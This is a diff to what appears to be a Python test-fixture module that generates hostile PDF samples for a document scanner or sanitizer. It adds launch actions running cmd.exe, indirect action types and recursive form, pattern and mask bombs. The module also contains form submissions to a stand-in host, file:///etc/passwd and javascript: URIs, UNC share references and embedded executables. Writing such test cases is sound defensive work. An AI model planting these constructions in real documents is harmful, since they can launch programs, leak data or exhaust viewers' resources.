@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 import zlib
 from collections.abc import Iterator
 
@@ -27,6 +28,9 @@ ACTIVE: dict[str, tuple[bytes, str, str]] = {
     "script behind a chain": (b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>", "/OpenAction", "script"),
     "program": (b"<< /S /Launch /F (cmd.exe) >>", "/OpenAction", "launch"),
     "program on a link": (b"<< /Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) >> >> >>", "annotation", "launch"),
+    "program, its kind elsewhere": (b"<< /Subtype /Link /A << /S 6 0 R /Win 7 0 R >> >>", "annotation", "launch"),
+    "program behind a chain, its kind elsewhere": (b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S 6 0 R /Win 7 0 R >> >>", "/OpenAction", "launch"),
+    "program by its parts alone": (b"<< /Subtype /Link /A << /S /Mulai /Unix 7 0 R >> >>", "annotation", "launch"),
     "attachment": (b"<< /EmbeddedFiles << /Names [(a) << /F (a.exe) /EF << /F 5 0 R >> >>] >> >>", "/Names", "embedded"),
     "attachment on a page": (b"<< /Subtype /FileAttachment /FS << /F (a) /EF << /F 5 0 R >> >> >>", "annotation", "embedded"),
     "portfolio": (b"<< /View /T >>", "/Collection", "embedded"),
@@ -41,6 +45,8 @@ ACTIVE: dict[str, tuple[bytes, str, str]] = {
     "form that sends itself": (b"<< /S /SubmitForm /F (http://jahat.example/) >>", "/OpenAction", "action"),
     "form data from outside": (b"<< /Subtype /Link /A << /S /ImportData /F (a.fdf) >> >>", "annotation", "action"),
     "another file": (b"<< /Subtype /Link /A << /S /GoToR /F (\\\\\\\\host\\\\share) >> >>", "annotation", "action"),
+    "a thread of another file": (b"<< /Subtype /Link /A << /S /Thread /D 0 /F (\\\\\\\\host\\\\share) >> >>", "annotation", "action"),
+    "addresses below a folder": (b"<< /Base (file:///) >>", "/URI", "action"),
     "address at once": (b"<< /S /URI /URI (http://jahat.example/) >>", "/OpenAction", "action"),
     "address that is a script": (b"<< /Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>", "annotation", "action"),
     "address of a file": (b"<< /Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >> >>", "annotation", "action"),
@@ -58,20 +64,19 @@ def stream(content: bytes, entries: bytes = b"") -> bytes:
 
 
 def holding(thing: bytes, place: str) -> list[bytes]:
-    """Objects of a paper with ``thing`` as number 4 and a stream as number 5."""
+    """Objects of a paper with ``thing`` as number 4, a stream as number 5, and what an action may keep elsewhere as 6 and 7."""
     catalogue = b"<< /Type /Catalog /Pages 2 0 R %s >>"
     page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> %s >>"
     if place == "annotation":
         hung, on_page = b"", b"/Annots [4 0 R]"
     else:
         hung, on_page = place.encode() + b" 4 0 R", b""
-    return [catalogue % hung, PAGES[0], page % on_page, thing, stream(b"app.alert(1)")]
+    elsewhere = [b"/Launch", b"<< /F (cmd.exe) /P (/c calc) >>"]
+    return [catalogue % hung, PAGES[0], page % on_page, thing, stream(b"app.alert(1)"), *elsewhere]
 
 
 def escaped(content: bytes) -> bytes:
     """Every name with its second letter written as a number: /J#61vaScript."""
-    import re
-
     return re.sub(rb"/([A-Z])([A-Za-z])(?=[A-Za-z]*)", lambda m: b"/%s#%02x" % (m[1], m[2][0]), content)
 
 
@@ -88,9 +93,11 @@ def revised(content: bytes, number: int, replaced: bytes) -> bytes:
     before = int(content.rsplit(b"startxref", 1)[1].split()[0])
     place = len(content)
     added = b"%d 0 obj\n%s\nendobj\n" % (number, replaced)
-    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n" % (
+    objects = int(content.rsplit(b"/Size", 1)[1].split()[0])
+    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (
         number,
         place,
+        objects,
         before,
     )
     return content + added + table + b"startxref\n%d\n%%%%EOF\n" % (place + len(added))
@@ -107,6 +114,8 @@ def pdfs() -> Iterator[Hostile]:
     yield from _disguised(plain)
     yield from _structure(plain)
     yield from _heavy()
+    yield from _drawn_without_end()
+    yield from _no_sheets()
 
 
 def _active() -> Iterator[Hostile]:
@@ -114,9 +123,7 @@ def _active() -> Iterator[Hostile]:
         objects = holding(thing, place)
         plain = built(objects)
         yield _one(name, plain, word)
-        yield _one(
-            f"{name}, names escaped", built([objects[0], *objects[1:3], escaped(thing), objects[4]]), word
-        )
+        yield _one(f"{name}, names escaped", built([*objects[:3], escaped(thing), *objects[4:]]), word)
         packed = saved(plain, object_stream_mode=pikepdf.ObjectStreamMode.generate)
         yield _one(f"{name}, in an object stream", packed, word)
         yield _one(f"{name}, linearized", saved(plain, linearize=True), word)
@@ -253,7 +260,7 @@ def _heavy() -> Iterator[Hostile]:
         "pages",
     )
     page = PAGES[1]
-    for count in (301, 2_000):
+    for count in (51, 2_000):
         kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
         tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
         yield _one(f"{count} pages", built([_good()[0], tree, *[page] * count]), "pages")
@@ -265,3 +272,92 @@ def _heavy() -> Iterator[Hostile]:
     yield _one(
         "an array without measure", built([*_good(), b"[" + b"0 " * 2_000_000 + b"]"]), "too_heavy", "broken"
     )
+
+
+def drawing(things: dict[str, bytes], content: bytes, page: bytes = b"") -> bytes:
+    """One page that says ``content``; each of ``things`` is an object, and @name in them all is the reference to another."""
+    places = {name: b"%d 0 R" % number for number, name in enumerate(things, 5)}
+
+    def told(text: bytes) -> bytes:
+        return re.sub(rb"@(\w+)", lambda named: places[named[1].decode()], text)
+
+    sheet = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R %s >>" % told(page)
+    objects = [_good()[0], PAGES[0], sheet, stream(content), *(told(thing) for thing in things.values())]
+    return built(objects)
+
+
+FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 300 300] "
+
+
+def _drawn_without_end() -> Iterator[Hostile]:
+    """A41: little to read, and nobody who draws it ever comes to the end."""
+    first = b"/Resources << /XObject << /X @f0 /Y @f0 >> >>"
+
+    def chain(
+        content: bytes, entries: bytes = FORM + b"/Resources << /XObject << /X @f%d >> >>"
+    ) -> dict[str, bytes]:
+        forms = {f"f{n}": stream(content, entries.replace(b"%d", b"%d" % (n + 1))) for n in range(25)}
+        return forms | {"f25": stream(b"0 0 1 1 re f", FORM)}
+
+    twice = b"/X Do /X Do"
+    yield _one("forms of forms", drawing(chain(twice), b"/X Do", first), "too_heavy")
+    escaped_too = drawing(chain(b"/#58 %/Y\nDo/X 1 Do"), b"/X Do", first)
+    yield _one("forms of forms, written otherwise", escaped_too, "too_heavy")
+    every = b"/Resources << /XObject << %s >> >>" % b" ".join(b"/X%d @f%d" % (n, n) for n in range(26))
+    names = {f"f{n}": stream(b"/X%d Do /X%d Do" % (n + 1, n + 1), FORM) for n in range(25)}
+    names["f25"] = stream(b"0 0 1 1 re f", FORM)
+    yield _one("forms by the names of their page", drawing(names, b"/X0 Do", every), "too_heavy")
+    looks = b"/Annots [<< /Subtype /Stamp /Rect [0 0 9 9] /AP << /N << /On @f0 >> >> >>]"
+    yield _one("forms of forms that a stamp shows", drawing(chain(twice), b"", looks), "too_heavy")
+    tiled = (
+        FORM
+        + b"/PatternType 1 /PaintType 1 /TilingType 1 /XStep 9 /YStep 9 /Resources << /Pattern << /P @f%d >> >>"
+    )
+    filled = b"/Pattern cs /P scn 0 0 9 9 re f 9 9 9 9 re f"
+    tiles = b"/Resources << /Pattern << /P @f0 >> >>"
+    yield _one("patterns of patterns", drawing(chain(filled, tiled), filled, tiles), "too_heavy")
+    masked = FORM + b"/Resources << /ExtGState << /G << /SMask << /S /Luminosity /G @f%d >> >> >> >>"
+    under = b"/G gs 0 0 9 9 re f 9 9 9 9 re f"
+    masks = b"/Resources << /ExtGState << /G << /SMask << /S /Luminosity /G @f0 >> >> >> >>"
+    yield _one("masks of masks", drawing(chain(under, masked), under, masks), "too_heavy")
+    outside = chain(b"0 0 1 1 re f " * 300, FORM) | {
+        "inner": stream(b"0 0 1 1 re f " * 50_000, FORM + b"/PatternType 1")
+    }
+    set_outside = b"/Resources << /XObject << /X @f0 >> /Pattern << /P @inner >> >>"
+    yield _one(
+        "a pattern set outside of the form",
+        drawing(outside, b"/P scn " + b"/X Do " * 9, set_outside),
+        "too_heavy",
+    )
+    letters = (
+        b"<< /Type /Font /Subtype /Type3 /CharProcs << /a @f0 >> /Resources << /XObject << /X @f1 >> >> >>"
+    )
+    glyphs = chain(b"/X Do " * 9) | {"f0": stream(b"/X Do"), "f6": stream(b"f", FORM), "font": letters}
+    shown = b"BT /F 9 Tf (%s) Tj ET" % (b"a" * 200)
+    yield _one(
+        "letters of forms", drawing(glyphs, shown, b"/Resources << /Font << /F @font >> >>"), "too_heavy"
+    )
+    large = {"f0": stream(zlib.compress(b"0 0 1 1 re f " * 1_000_000, 9), FORM + b"/Filter /FlateDecode")}
+    yield _one("a large form again and again", drawing(large, b"/X Do " * 100, first), "too_heavy")
+    full = stream(b"0 0 300 300 re f " * 60_000, FORM)
+    yield _one("a page painted a million times", drawing({"f0": full}, b"/X Do " * 20, first), "too_heavy")
+    itself = {"f0": stream(b"/Y Do", FORM + first), "other": b"null"}
+    yield _one("a form of itself", drawing(itself, b"/X Do", first), "too_heavy")
+
+
+def _no_sheets() -> Iterator[Hostile]:
+    """Nothing to be seen, or more than any sheet: no copy could be made of it. (What is no box at all, qpdf remarks on.)"""
+    for name, boxes in {
+        "nothing": b"/MediaBox [0 0 0 0]",
+        "a speck": b"/MediaBox [0 0 300 3]",
+        "a field": b"/MediaBox [0 0 300 14401]",
+        "letters": b"/MediaBox [(a) (b) (c) (d)]",
+        "three sides": b"/MediaBox [0 0 300]",
+        "no box": b"",
+        "a crop of letters": b"/MediaBox [0 0 300 300] /CropBox [(a) (b) (c) (d)]",
+        "a crop that is a name": b"/MediaBox [0 0 300 300] /CropBox /Semua",
+        "a crop outside": b"/MediaBox [0 0 300 300] /CropBox [5000 5000 6000 6000]",
+        "a crop of a line": b"/MediaBox [0 0 300 300] /CropBox [0 0 300 1]",
+    }.items():
+        page = b"<< /Type /Page /Parent 2 0 R /Resources << >> %s >>" % boxes
+        yield _one(f"page: {name}", built([_good()[0], PAGES[0], page]), "page_size", "broken")
